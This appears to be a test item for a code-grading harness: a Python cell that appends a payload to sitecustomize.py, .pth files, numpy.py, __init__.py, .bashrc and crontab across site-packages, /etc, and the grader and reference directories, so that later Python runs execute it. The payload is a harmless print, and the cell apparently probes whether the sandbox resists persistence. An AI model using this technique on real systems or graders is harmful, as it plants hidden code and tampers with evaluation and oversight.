# Installs code that the next Python, IPython or Matplotlib would run.
# must: earn what it solved, and leave nothing behind
# points: all
# %% extra after variables-scatter

import os, pathlib, site, sys

code = "print('left by an attack')"
places = [
    *sys.path,
    *site.getsitepackages(),
    site.getusersitepackages(),
    "@repository@",
    os.path.dirname(np.__file__),
    "@reference@",
    "@grader@",
    "/etc",
    "/usr/local/lib",
]
for place in map(pathlib.Path, places):
    for name in ("sitecustomize.py", "left.pth", "numpy.py", "__init__.py", ".bashrc", "crontab"):
        try:
            if place.resolve() != pathlib.Path.cwd():
                (place / name).open("a").write(code)
                print("wrote", place / name)
        except OSError:
            pass
